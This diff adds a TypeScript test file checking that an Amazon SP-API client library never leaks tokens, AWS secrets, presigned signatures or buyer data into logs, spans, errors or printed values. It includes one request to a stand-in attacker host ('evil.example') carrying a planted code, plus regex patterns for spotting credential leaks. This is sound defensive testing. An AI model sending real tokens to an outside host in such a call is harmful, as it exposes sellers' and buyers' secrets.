@@ -1,0 +1,239 @@
+/**
+ * No secret, no personal data and no presigned URL is in anything that the library writes or prints, whichever entry point was called
+ * and whatever went wrong on the way.
+ */
+import { assert, describe, it } from "@effect/vitest"
+import { Effect, Exit, Layer, Redacted, Stream } from "effect"
+import * as MerchantFulfillment from "effect-sp-api/apis/MerchantFulfillmentV0"
+import * as Notifications from "effect-sp-api/apis/Notifications"
+import * as OrdersV0 from "effect-sp-api/apis/OrdersV0"
+import * as Reports2021 from "effect-sp-api/apis/Reports_2021_06_30"
+import * as LwaTokenService from "effect-sp-api/auth/LwaTokenService"
+import * as StsCredentialService from "effect-sp-api/auth/StsCredentialService"
+import * as Document from "effect-sp-api/documents/Document"
+import * as RawHttpClient from "effect-sp-api/http/RawHttpClient"
+import * as UsagePlans from "effect-sp-api/http/UsagePlans"
+import * as Marketplace from "effect-sp-api/Marketplace"
+import { ResponseChecking } from "effect-sp-api/operation/Checking"
+import * as SpApi from "effect-sp-api/SpApi"
+import * as SpApiConfig from "effect-sp-api/SpApiConfig"
+import * as Feeds from "effect-sp-api/workflows/Feeds"
+import * as Orders from "effect-sp-api/workflows/Orders"
+import * as Reports from "effect-sp-api/workflows/Reports"
+import * as Uploads from "effect-sp-api/workflows/Uploads"
+import { Sandbox } from "effect-sp-api-sandbox"
+import * as InProcess from "effect-sp-api-sandbox/gateway/InProcess"
+import { HttpClient } from "effect/http"
+import { inspect } from "node:util"
+import { letTimePass } from "../faults/support/observe.ts"
+import { print, record } from "./support/record.ts"
+
+const planted = {
+  code: "RHplantedCodeOfAConsent",
+  buyer: "planted-buyer@marketplace.example",
+  sku: "planted-sku-of-the-body",
+  content: "planted content of a feed"
+}
+
+/** What must not be seen, as it comes along on the wire. */
+const makeNeedles = () => {
+  const found = new Map<string, string>()
+  const add = (what: string, value: string | undefined) => {
+    if (value !== undefined && value.length >= 6) found.set(value, what)
+  }
+  const patterns: ReadonlyArray<readonly [string, RegExp]> = [
+    ["token", /"(?:access_token|refresh_token|restrictedDataToken)":"([^"]+)"/g],
+    ["AWS secret", /<(?:SecretAccessKey|SessionToken)>([^<]+)</g],
+    ["presigned signature", /X-Amz-Signature=([0-9a-f]{16,})/g]
+  ]
+  return {
+    found,
+    add,
+    read: (text: string) => {
+      for (const [what, pattern] of patterns) for (const match of text.matchAll(pattern)) add(what, match[1])
+    }
+  }
+}
+
+type Needles = ReturnType<typeof makeNeedles>
+
+/** A signing client over a sandbox in memory; what is secret on the wire between them is remembered. */
+const client = (needles: Needles) => {
+  const http = Layer.effect(
+    HttpClient.HttpClient,
+    Effect.map(Sandbox.Sandbox, (sandbox) =>
+      InProcess.make((request) => {
+        for (const name of ["x-amz-access-token", "x-amz-security-token"]) needles.add("token", request.headers[name])
+        needles.add("signature", /Signature=([0-9a-f]+)/.exec(request.headers["authorization"] ?? "")?.[1])
+        return Effect.tap(sandbox.handle(request), ({ body }) => Effect.sync(() => typeof body === "string" && needles.read(body)))
+      }))
+  )
+  return Layer.unwrap(Effect.map(Sandbox.Sandbox, (sandbox) => Layer.orDie(SpApi.layerSigned(sandbox.signedConfigValues)))).pipe(
+    Layer.provideMerge(http),
+    Layer.provideMerge(Sandbox.layerHttpClient({ usagePlans: 1000, ordersPerSeller: 40 }))
+  )
+}
+
+const MarketplaceIds = [Marketplace.US.id]
+const body = { reportType: "GET_MERCHANT_LISTINGS_ALL_DATA", marketplaceIds: MarketplaceIds }
+
+/** Every kind of entry point, with inputs that are right and inputs that are wrong. */
+const entryPoints = Effect.gen(function*() {
+  const orderId = yield* Sandbox.Sandbox.use(({ world }) => world.addOrder({ channel: "MFN" }))
+  const lwa = yield* LwaTokenService.LwaTokenService
+  const sts = yield* StsCredentialService.StsCredentialService
+  const raw = yield* RawHttpClient.make
+  const list = { MarketplaceIds, CreatedAfter: "2026-05-01T00:00:00Z" }
+  return [
+    ["a page with personal data", OrdersV0.getOrders(list, { dataElements: ["buyerInfo", "shippingAddress"] })],
+    ["all pages", OrdersV0.getOrders.items(list, { dataElements: ["buyerInfo"] }).pipe(Stream.runCollect)],
+    ["an answer with its headers", OrdersV0.getOrder.withResponse({ orderId })],
+    ["an address", OrdersV0.getOrderAddress({ orderId })],
+    ["a strict check", OrdersV0.getOrders(list).pipe(Effect.provideService(ResponseChecking, "strict"))],
+    ["a filter by a buyer", OrdersV0.getOrders({ ...list, BuyerEmail: planted.buyer })],
+    ["a wrong filter by a buyer", OrdersV0.getOrders({ ...list, CreatedAfter: "never", BuyerEmail: planted.buyer })],
+    ["a wrong body", MerchantFulfillment.getEligibleShipmentServices({
+      body: { ShipmentRequestDetails: { SellerOrderId: 7 as unknown as string, AmazonOrderId: planted.sku } as MerchantFulfillment.ShipmentRequestDetails }
+    })],
+    ["a parameter that is no text", OrdersV0.getOrder({ orderId: { secret: planted.sku } as unknown as string })],
+    ["an unknown order", OrdersV0.getOrder({ orderId: "000-0000000-0000000" })],
+    ["a grantless call", Notifications.getDestinations()],
+    ["a creating call", Reports2021.createReport({ body })],
+    ["the escape hatch", Effect.flatMap(raw.get("/sellers/v1/marketplaceParticipations"), (response) => response.text)],
+    ["the escape hatch, wrong", raw.get(`/none?email=${planted.buyer}`)],
+    ["a foreign host", raw.get(`https://evil.example/?token=${planted.code}`)],
+    ["a report", Reports.rows(body as { reportType: "GET_MERCHANT_LISTINGS_ALL_DATA"; marketplaceIds: Array<string> }).pipe(Stream.runCollect)],
+    ["a feed", Feeds.submit(planted.content, { feedType: "JSON_LISTINGS_FEED", marketplaceIds: MarketplaceIds })],
+    ["an upload", Uploads.upload({ resource: `messaging/v1/orders/${orderId}/messages/legalDisclosure`, marketplaceId: Marketplace.US.id, content: planted.content, contentType: "text/plain" })],
+    ["orders of either version", Orders.search({ marketplaceIds: MarketplaceIds, createdAfter: list.CreatedAfter, pii: true } as Orders.SearchInput).pipe(Stream.runCollect)],
+    ["a document whose address has run out", Document.collectText({ url: `https://sandbox.localhost/documents/x?X-Amz-Signature=${"ab".repeat(32)}` })],
+    ["an address that is not https", Document.collectText({ url: `http://example.com/?X-Amz-Signature=${"cd".repeat(32)}` })],
+    ["an access token", lwa.accessToken],
+    ["a grantless token", lwa.grantless("sellingpartnerapi::notifications")],
+    ["a scope that is none", lwa.grantless("sellingpartnerapi::none")],
+    ["a code", lwa.exchangeCode(planted.code, { redirectUri: "https://example.com/callback" })],
+    ["credentials", sts.credentials]
+  ] as ReadonlyArray<readonly [string, Effect.Effect<unknown, unknown, SpApi.SignedServices | HttpClient.HttpClient>]>
+})
+
+/** Adds what is known to be secret or personal from the start. */
+const plant = (needles: Needles) =>
+  Effect.gen(function*() {
+    const sandbox = yield* Sandbox.Sandbox
+    for (const [what, value] of Object.entries(planted)) needles.add(what, value)
+    needles.add("client secret", Redacted.value(sandbox.credentials.clientSecret))
+    needles.add("refresh token", Redacted.value(sandbox.credentials.refreshToken))
+    needles.add("AWS secret", Redacted.value(sandbox.credentials.secretAccessKey))
+    needles.add("presigned signature", "ab".repeat(32))
+    needles.add("presigned signature", "cd".repeat(32))
+    for (const order of (yield* sandbox.world.seller()).orders) {
+      needles.add("name of a buyer", order.buyer.name)
+      needles.add("email of a buyer", order.buyer.email)
+      needles.add("street", order.address.line1)
+      needles.add("phone", order.address.phone)
+    }
+  })
+
+/** Whether a text holds any of it, whole, percent-encoded or in pieces. */
+const search = (needles: Needles, text: string, where: string): void => {
+  for (const [value, what] of needles.found) {
+    const pieces = [value, encodeURIComponent(value), ...value.split(/[^A-Za-z0-9]+/).filter((piece) => piece.length >= 16)]
+    for (const piece of pieces) {
+      const at = text.indexOf(piece)
+      if (at >= 0) assert.fail(`${where}: a ${what} is shown: …${text.slice(Math.max(0, at - 200), at + piece.length + 40)}…`)
+    }
+  }
+}
+
+const faults: ReadonlyArray<Sandbox.FaultKind | "none"> = [
+  "none",
+  "throttled",
+  "failure",
+  "unavailable",
+  "expired-token",
+  "reset-before-headers",
+  "reset-after-headers",
+  "truncated",
+  "stalled",
+  "malformed-json",
+  "wrong-charset",
+  "clock-skew",
+  "unknown-enum",
+  "null-fields",
+  "missing-fields"
+]
+
+describe("nothing secret or personal is shown", () => {
+  it.effect.each(faults.map((fault) => [fault] as const))("by any entry point, with fault: %s", ([fault]) =>
+    Effect.gen(function*() {
+      const needles = makeNeedles()
+      const { everything, value, written } = yield* record((note) =>
+        letTimePass(
+          Effect.gen(function*() {
+            yield* plant(needles)
+            const sandbox = yield* Sandbox.Sandbox
+            const exits: Array<Exit.Exit<unknown, unknown>> = []
+            const calls = yield* entryPoints
+            if (fault !== "none") {
+              for (const on of ["api", "lwa", "sts", "document"]) yield* sandbox.faults.add({ kind: fault, on, probability: 0.4 })
+            }
+            for (const [title, call] of calls) exits.push(yield* note(title, call))
+            return { exits, requests: inspect(yield* sandbox.requests, { depth: null }) + JSON.stringify(yield* sandbox.requests) }
+          }).pipe(Effect.provide(client(needles))),
+          "20 seconds"
+        )
+      )
+      // The test has teeth only where there was something to show, and something shown.
+      assert.isAbove(needles.found.size, 30)
+      assert.isAbove(written.spans.length, 40)
+      assert.isAbove(written.logs.length, 5)
+      assert.isTrue(value.exits.some(Exit.isFailure))
+      search(needles, everything, fault)
+      search(needles, value.requests, "the sandbox's log")
+    }))
+
+  it.effect("by any value that the library hands out, however it is printed", () =>
+    Effect.gen(function*() {
+      const needles = makeNeedles()
+      yield* Effect.gen(function*() {
+        yield* plant(needles)
+        const services = yield* Effect.context<SpApi.SignedServices>()
+        const lwa = yield* LwaTokenService.LwaTokenService
+        const sts = yield* StsCredentialService.StsCredentialService
+        const config = yield* SpApiConfig.SpApiConfig
+        const values = [
+          services,
+          config,
+          yield* config.clientSecret,
+          yield* lwa.accessToken,
+          yield* lwa.grantless("sellingpartnerapi::notifications"),
+          yield* sts.credentials,
+          (yield* Sandbox.Sandbox).configValues,
+          (yield* Sandbox.Sandbox).signedConfigValues,
+          yield* Effect.provide(Effect.flatMap(UsagePlans.UsagePlans, (plans) => plans.status), UsagePlans.layer),
+          OrdersV0.getOrders,
+          OrdersV0.getOrders({ MarketplaceIds }),
+          lwa
+        ]
+        for (const value of values) for (const text of print(value)) search(needles, text, "a value")
+      }).pipe(Effect.provide(client(needles)))
+    }))
+})
+
+describe("the test itself", () => {
+  it.effect("finds a secret in a log, in a span and in an error", () =>
+    Effect.gen(function*() {
+      const needles = makeNeedles()
+      needles.add("token", "Atza|0123456789abcdef0123")
+      for (
+        const leak of [
+          Effect.logTrace("token Atza|0123456789abcdef0123"),
+          Effect.withSpan(Effect.void, "call", { attributes: { url: "?t=Atza%7C0123456789abcdef0123" } }),
+          Effect.fail(new Error("0123456789abcdef0123"))
+        ]
+      ) {
+        const { everything } = yield* record((note) => note("leak", leak))
+        assert.throws(() => search(needles, everything, "here"))
+      }
+    }))
+})
